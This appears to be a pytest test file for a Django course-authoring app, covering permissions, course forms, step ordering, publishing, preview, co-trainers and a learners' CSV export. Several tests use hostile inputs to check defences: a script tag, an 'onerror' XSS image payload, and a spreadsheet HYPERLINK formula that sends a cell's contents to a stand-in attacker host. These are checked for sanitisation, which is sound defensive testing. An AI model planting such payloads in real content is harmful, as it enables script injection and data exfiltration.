"""Trainer authoring pages: permissions, course form, outline ordering, publishing, preview, team, learners."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from courses import step_providers
from courses.models import Course, Lesson, Module, Quiz, Step
from tests.factories import (
    AdminFactory,
    CourseFactory,
    EnrolmentFactory,
    LessonFactory,
    ModuleFactory,
    StepFactory,
    TrainerFactory,
    UserFactory,
    build_course,
    complete,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def owner():
    return TrainerFactory()


@pytest.fixture
def course(owner):
    return CourseFactory(owner=owner, draft=True, slug="mon-cours", title="Mon cours")


def course_form_data(**overrides) -> dict:
    data = {
        "title": "Diriger la caméra",
        "slug": "",
        "language": "fr",
        "translation_of": "",
        "level": "beginner",
        "summary": "Résumé",
        "description": "## Objectifs\n\nSavoir **cadrer**.",
        "prerequisites": "",
        "duration_hours": "2.5",
        "enrolment": "open",
        "tags_text": "caméra, prompt, , Caméra",
    }
    data.update(overrides)
    return data


# --- permissions -------------------------------------------------------------------


COURSE_PAGES = [
    "authoring_course_edit",
    "authoring_outline",
    "authoring_questions",
    "authoring_question_create",
    "authoring_preview",
    "authoring_cotrainers",
    "authoring_learners",
    "authoring_learners_csv",
    "authoring_image_upload",
    "authoring_module_create",
]


def test_anonymous_is_sent_to_login(client):
    response = client.get(reverse("courses:authoring_home"))
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_learner_is_refused_the_authoring_home(client):
    client.force_login(UserFactory())
    assert client.get(reverse("courses:authoring_home")).status_code == 403


@pytest.mark.parametrize("name", COURSE_PAGES)
def test_other_trainer_gets_404_on_course_pages(client, course, name):
    client.force_login(TrainerFactory())
    assert client.get(reverse(f"courses:{name}", args=[course.slug])).status_code == 404


@pytest.mark.parametrize("name", COURSE_PAGES)
def test_cotrainer_reaches_course_pages(client, course, name):
    cotrainer = TrainerFactory()
    course.co_trainers.add(cotrainer)
    client.force_login(cotrainer)
    assert client.get(reverse(f"courses:{name}", args=[course.slug])).status_code == 200


def test_other_trainer_gets_404_on_step_module_and_question_pages(client, course):
    module = ModuleFactory(course=course)
    lesson = LessonFactory(step__module=module)
    client.force_login(TrainerFactory())
    assert client.get(reverse("courses:authoring_lesson_edit", args=[lesson.step_id])).status_code == 404
    assert client.get(reverse("courses:authoring_module_edit", args=[module.pk])).status_code == 404
    assert client.post(reverse("courses:authoring_step_move", args=[lesson.step_id, "up"])).status_code == 404
    assert client.post(reverse("courses:authoring_module_delete", args=[module.pk])).status_code == 404
    assert Module.objects.filter(pk=module.pk).exists()


def test_home_lists_own_and_cotrained_courses_only(client, owner, course):
    other = CourseFactory(title="Cours d'un autre")
    cotrained = CourseFactory(title="Cours partagé")
    cotrained.co_trainers.add(owner)
    client.force_login(owner)
    page = client.get(reverse("courses:authoring_home")).content.decode()
    assert course.title in page and cotrained.title in page
    assert other.title not in page


def test_admin_sees_every_course_on_home(client, course):
    client.force_login(AdminFactory())
    assert course.title in client.get(reverse("courses:authoring_home")).content.decode()


# --- course create / edit ----------------------------------------------------------------


def test_course_create_derives_slug_sets_owner_and_tags(client, owner):
    client.force_login(owner)
    response = client.post(reverse("courses:authoring_course_create"), course_form_data())
    course = Course.objects.get(title="Diriger la caméra")
    assert response.status_code == 302
    assert course.slug == "diriger-la-camera"
    assert course.owner == owner and course.status == Course.Status.DRAFT
    assert sorted(t.slug for t in course.tags.all()) == ["camera", "prompt"]


def test_course_create_duplicate_slug_shows_error_in_place_and_keeps_input(client, owner, course):
    client.force_login(owner)
    data = course_form_data(slug=course.slug, description="Mon texte **précieux**")
    response = client.post(reverse("courses:authoring_course_create"), data)
    page = response.content.decode()
    assert response.status_code == 400
    assert 'id="id_slug_error"' in page
    assert "Mon texte **précieux**" in page  # nothing typed is lost
    assert 'value="caméra, prompt, , Caméra"' in page
    assert Course.objects.count() == 1


def test_course_create_refuses_reserved_slug(client, owner):
    client.force_login(owner)
    response = client.post(reverse("courses:authoring_course_create"), course_form_data(slug="formateur"))
    assert response.status_code == 400
    assert not Course.objects.filter(slug="formateur").exists()


def test_course_create_auto_slug_avoids_taken_one(client, owner):
    CourseFactory(slug="diriger-la-camera")
    client.force_login(owner)
    client.post(reverse("courses:authoring_course_create"), course_form_data())
    assert Course.objects.filter(slug="diriger-la-camera-2", owner=owner).exists()


def test_translation_must_be_in_the_other_language(client, owner, course):
    client.force_login(owner)
    same = client.post(reverse("courses:authoring_course_create"), course_form_data(translation_of=course.pk))
    other = client.post(
        reverse("courses:authoring_course_create"),
        course_form_data(title="Directing", language="en", translation_of=course.pk),
    )
    assert same.status_code == 400
    assert other.status_code == 302
    assert Course.objects.get(slug="directing").translation_of == course


def test_preview_button_rerenders_without_saving_and_shows_sanitised_preview(client, owner, course):
    client.force_login(owner)
    data = course_form_data(
        title="Nouveau titre", slug=course.slug, description="**gras** <script>x()</script>", _preview="1"
    )
    response = client.post(reverse("courses:authoring_course_edit", args=[course.slug]), data)
    page = response.content.decode()
    course.refresh_from_db()
    assert response.status_code == 200
    assert course.title == "Mon cours"
    assert "<strong>gras</strong>" in page and "<script>x()" not in page
    assert 'value="Nouveau titre"' in page


def test_course_edit_saves(client, owner, course):
    client.force_login(owner)
    data = course_form_data(title="Titre modifié", slug="nouveau-slug", sequential="on")
    response = client.post(reverse("courses:authoring_course_edit", args=[course.slug]), data)
    course.refresh_from_db()
    assert response.status_code == 302
    assert (course.title, course.slug, course.sequential) == ("Titre modifié", "nouveau-slug", True)


# --- outline: modules, steps, ordering -----------------------------------------------


def test_module_and_steps_are_created_at_the_end(client, owner, course):
    client.force_login(owner)
    client.post(reverse("courses:authoring_module_create", args=[course.slug]), {"title": "Bases", "summary": ""})
    module = course.modules.get()
    for kind in ("lesson", "quiz"):
        response = client.post(
            reverse("courses:authoring_step_create", args=[module.pk, kind]),
            {"title": f"Une {kind}", "minutes": 5, "required": "on"},
        )
        assert response.status_code == 302
    lesson_step, quiz_step = module.steps.order_by("position")
    assert Lesson.objects.filter(step=lesson_step).exists()
    assert Quiz.objects.filter(step=quiz_step).exists()
    assert lesson_step.position < quiz_step.position


def test_lab_step_without_provider_stays_in_outline_marked_to_configure(client, owner, course, monkeypatch):
    monkeypatch.setattr(step_providers, "_providers", {})
    module = ModuleFactory(course=course)
    client.force_login(owner)
    response = client.post(
        reverse("courses:authoring_step_create", args=[module.pk, "lab"]), {"title": "Labo", "minutes": 20}
    )
    assert response["Location"] == reverse("courses:authoring_outline", args=[course.slug])
    page = client.get(response["Location"]).content.decode()
    assert "Labo" in page and "application Labos" in page


def test_lab_step_redirects_to_provider_authoring_url(client, owner, course, monkeypatch):
    class Provider:
        def url_for(self, step):
            return f"/labs/{step.pk}/"

        def authoring_url_for(self, step):
            return f"/labs/{step.pk}/edit/"

    monkeypatch.setattr(step_providers, "_providers", {"lab": Provider()})
    module = ModuleFactory(course=course)
    client.force_login(owner)
    response = client.post(
        reverse("courses:authoring_step_create", args=[module.pk, "lab"]), {"title": "Labo", "minutes": 20}
    )
    step = Step.objects.get(kind="lab")
    assert response["Location"] == f"/labs/{step.pk}/edit/"


def test_unknown_step_kind_is_404(client, owner, course):
    module = ModuleFactory(course=course)
    client.force_login(owner)
    assert client.get(reverse("courses:authoring_step_create", args=[module.pk, "video"])).status_code == 404


def test_step_move_up_with_plain_post_swaps_positions(client, owner, course):
    module = ModuleFactory(course=course)
    first, second, third = (StepFactory(module=module, position=0) for _ in range(3))  # equal positions: id decides
    client.force_login(owner)
    response = client.post(reverse("courses:authoring_step_move", args=[third.pk, "up"]))
    assert response.status_code == 302  # no JS: back to the outline page
    order = list(module.steps.order_by("position", "id").values_list("pk", flat=True))
    assert order == [first.pk, third.pk, second.pk]


def test_step_move_down_at_the_end_changes_nothing(client, owner, course):
    module = ModuleFactory(course=course)
    first, last = StepFactory(module=module, position=1), StepFactory(module=module, position=2)
    client.force_login(owner)
    client.post(reverse("courses:authoring_step_move", args=[last.pk, "down"]))
    assert list(module.steps.order_by("position").values_list("pk", flat=True)) == [first.pk, last.pk]


def test_step_move_with_htmx_returns_the_outline_partial(client, owner, course):
    module = ModuleFactory(course=course)
    StepFactory(module=module, position=1)
    second = StepFactory(module=module, position=2, title="Deuxième")
    client.force_login(owner)
    response = client.post(reverse("courses:authoring_step_move", args=[second.pk, "up"]), HTTP_HX_REQUEST="true")
    page = response.content.decode()
    assert response.status_code == 200
    assert page.lstrip().startswith('<div id="outline"') and "<html" not in page


def test_module_move_down(client, owner, course):
    first, second = ModuleFactory(course=course, position=1), ModuleFactory(course=course, position=2)
    client.force_login(owner)
    client.post(reverse("courses:authoring_module_move", args=[first.pk, "down"]))
    assert list(course.modules.order_by("position").values_list("pk", flat=True)) == [second.pk, first.pk]


def test_reorder_json_sets_step_order(client, owner, course):
    module = ModuleFactory(course=course)
    a, b, c = (StepFactory(module=module) for _ in range(3))
    client.force_login(owner)
    response = client.post(
        reverse("courses:authoring_reorder", args=[course.slug]),
        {"module": module.pk, "steps": [c.pk, a.pk, b.pk]},
        content_type="application/json",
    )
    assert response.status_code == 200
    assert list(module.steps.order_by("position").values_list("pk", flat=True)) == [c.pk, a.pk, b.pk]


def test_reorder_refuses_a_foreign_or_incomplete_list(client, owner, course):
    module = ModuleFactory(course=course)
    a, b = StepFactory(module=module, position=1), StepFactory(module=module, position=2)
    stranger = StepFactory()
    client.force_login(owner)
    response = client.post(
        reverse("courses:authoring_reorder", args=[course.slug]),
        {"module": module.pk, "steps": [stranger.pk, a.pk]},
        content_type="application/json",
    )
    assert response.status_code == 409
    assert list(module.steps.order_by("position").values_list("pk", flat=True)) == [a.pk, b.pk]


def test_reorder_modules_with_a_form_post(client, owner, course):
    first, second = ModuleFactory(course=course, position=1), ModuleFactory(course=course, position=2)
    client.force_login(owner)
    client.post(reverse("courses:authoring_reorder", args=[course.slug]), {"modules": f"{second.pk},{first.pk}"})
    assert list(course.modules.order_by("position").values_list("pk", flat=True)) == [second.pk, first.pk]


def test_module_delete_needs_post_and_removes_steps(client, owner, course):
    module = ModuleFactory(course=course)
    StepFactory(module=module)
    client.force_login(owner)
    assert client.get(reverse("courses:authoring_module_delete", args=[module.pk])).status_code == 200
    assert Module.objects.filter(pk=module.pk).exists()
    client.post(reverse("courses:authoring_module_delete", args=[module.pk]))
    assert not Module.objects.filter(pk=module.pk).exists() and not Step.objects.exists()


def test_lesson_edit_saves_step_and_body(client, owner, course):
    lesson = LessonFactory(step__module=ModuleFactory(course=course))
    client.force_login(owner)
    data = {"title": "Cadrages", "minutes": 12, "required": "on", "body": "Le **plan large**.", "video_caption": ""}
    response = client.post(reverse("courses:authoring_lesson_edit", args=[lesson.step_id]), data)
    lesson.refresh_from_db()
    lesson.step.refresh_from_db()
    assert response.status_code == 302
    assert lesson.body == "Le **plan large**." and lesson.step.title == "Cadrages" and lesson.step.minutes == 12


def test_lesson_edit_error_keeps_the_body(client, owner, course):
    lesson = LessonFactory(step__module=ModuleFactory(course=course), body="ancien")
    client.force_login(owner)
    data = {"title": "", "minutes": 12, "body": "Texte **neuf** à garder", "video_caption": ""}
    response = client.post(reverse("courses:authoring_lesson_edit", args=[lesson.step_id]), data)
    lesson.refresh_from_db()
    assert response.status_code == 400
    assert "Texte **neuf** à garder" in response.content.decode()
    assert lesson.body == "ancien"


# --- publishing and preview -------------------------------------------------------------------


def test_publish_refused_without_a_step(client, owner, course):
    ModuleFactory(course=course)
    client.force_login(owner)
    client.post(reverse("courses:authoring_publish", args=[course.slug]), {"action": "publish"})
    course.refresh_from_db()
    assert course.status == Course.Status.DRAFT and course.published_at is None


def test_publish_then_unpublish(client, owner, course):
    StepFactory(module=ModuleFactory(course=course))
    client.force_login(owner)
    client.post(reverse("courses:authoring_publish", args=[course.slug]), {"action": "publish"})
    course.refresh_from_db()
    assert course.status == Course.Status.PUBLISHED and course.published_at is not None
    client.post(reverse("courses:authoring_publish", args=[course.slug]), {"action": "unpublish"})
    course.refresh_from_db()
    assert course.status == Course.Status.DRAFT


def test_trainer_previews_unpublished_course_and_lesson_with_banner(client, owner, course):
    lesson = LessonFactory(step__module=ModuleFactory(course=course), body="Bonjour <img src=x onerror=alert(1)>")
    client.force_login(owner)
    course_page = client.get(reverse("courses:authoring_preview", args=[course.slug])).content.decode()
    lesson_page = client.get(
        reverse("courses:authoring_preview_step", args=[course.slug, lesson.step_id])
    ).content.decode()
    assert "Aperçu — non publié" in course_page
    assert reverse("courses:authoring_preview_step", args=[course.slug, lesson.step_id]) in course_page
    assert "Aperçu — non publié" in lesson_page and "Bonjour" in lesson_page and "onerror" not in lesson_page


def test_learner_gets_404_on_unpublished_course(client, course):
    client.force_login(UserFactory())
    assert client.get(reverse("courses:detail", args=[course.slug])).status_code == 404


def test_preview_of_a_quiz_step_shows_questions(client, owner):
    course = build_course(modules=1, steps_per_module=1, kinds=("quiz",), questions=2, owner=owner, draft=True)
    step = Step.objects.get(module__course=course)
    client.force_login(owner)
    page = client.get(reverse("courses:authoring_preview_step", args=[course.slug, step.pk])).content.decode()
    assert "Bonne réponse" in page and "Aperçu — non publié" in page


# --- co-trainers -------------------------------------------------------------------------------


def test_owner_adds_a_trainer_by_email_and_removes_them(client, owner, course):
    colleague = TrainerFactory(email="collegue@example.com")
    client.force_login(owner)
    client.post(
        reverse("courses:authoring_cotrainers", args=[course.slug]), {"action": "add", "email": "COLLEGUE@example.com"}
    )
    assert list(course.co_trainers.all()) == [colleague]
    client.post(
        reverse("courses:authoring_cotrainers", args=[course.slug]), {"action": "remove", "user_id": colleague.pk}
    )
    assert not course.co_trainers.exists()


@pytest.mark.parametrize("user_id", ["abc", ""])
def test_removing_a_malformed_cotrainer_id_is_a_clear_refusal(client, owner, course, user_id):
    colleague = TrainerFactory()
    course.co_trainers.add(colleague)
    client.force_login(owner)
    response = client.post(
        reverse("courses:authoring_cotrainers", args=[course.slug]), {"action": "remove", "user_id": user_id}
    )
    assert response.status_code == 400
    assert "Cette personne n&#x27;est pas co-formatrice ou co-formateur de ce cours." in response.content.decode()
    assert list(course.co_trainers.all()) == [colleague]


def test_a_learner_cannot_become_cotrainer(client, owner, course):
    UserFactory(email="apprenant@example.com")
    client.force_login(owner)
    response = client.post(
        reverse("courses:authoring_cotrainers", args=[course.slug]), {"email": "apprenant@example.com"}
    )
    assert response.status_code == 400
    assert 'id="id_email_error"' in response.content.decode()
    assert not course.co_trainers.exists()


def test_cotrainer_cannot_manage_the_team(client, course):
    cotrainer, other = TrainerFactory(), TrainerFactory()
    course.co_trainers.add(cotrainer)
    client.force_login(cotrainer)
    response = client.post(reverse("courses:authoring_cotrainers", args=[course.slug]), {"email": other.email})
    assert response.status_code == 403
    assert list(course.co_trainers.all()) == [cotrainer]


def test_admin_manages_the_team(client, course):
    colleague = TrainerFactory()
    client.force_login(AdminFactory())
    client.post(reverse("courses:authoring_cotrainers", args=[course.slug]), {"email": colleague.email})
    assert course.co_trainers.filter(pk=colleague.pk).exists()


# --- learners' progress ----------------------------------------------------------------------


def test_learners_table_shows_progress_in_constant_queries(client, owner, django_assert_max_num_queries):
    course = build_course(modules=2, steps_per_module=3, owner=owner)
    steps = list(Step.objects.filter(module__course=course).order_by("module__position", "position"))
    for index in range(6):
        learner = UserFactory(first_name=f"Amal{index}")
        EnrolmentFactory(user=learner, course=course)
        for step in steps[: index % 4]:
            complete(learner, step, score=80)
    client.force_login(owner)
    with django_assert_max_num_queries(10):
        response = client.get(reverse("courses:authoring_learners", args=[course.slug]))
    page = response.content.decode()
    assert "Amal5" in page and "80 %" in page


def test_learners_csv_header_neutralises_step_titles_that_look_like_formulas(client, owner):
    # given a step whose title a spreadsheet would run as a formula
    course = build_course(modules=1, steps_per_module=2, owner=owner)
    step = Step.objects.filter(module__course=course).order_by("position").first()
    step.title = '=HYPERLINK("http://evil.example/?"&A2;"Voir")'
    step.save(update_fields=["title"])
    client.force_login(owner)
    # when the trainer downloads the learners' CSV
    response = client.get(reverse("courses:authoring_learners_csv", args=[course.slug]))
    # then the header cell is plain text
    header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert '\'=HYPERLINK("http://evil.example/?"&A2;"Voir")' in header
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)


def test_learners_csv_lists_each_learner_with_percent(client, owner):
    course = build_course(modules=1, steps_per_module=2, owner=owner)
    first = Step.objects.filter(module__course=course).order_by("position").first()
    learner = UserFactory(first_name="=HYPERLINK", email="salma@example.com")
    EnrolmentFactory(user=learner, course=course)
    complete(learner, first)
    client.force_login(owner)
    response = client.get(reverse("courses:authoring_learners_csv", args=[course.slug]))
    body = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv")
    row = next(line for line in body.splitlines() if "salma@example.com" in line)
    assert row.startswith("'=HYPERLINK")  # formula neutralised
    assert ";50;" in row
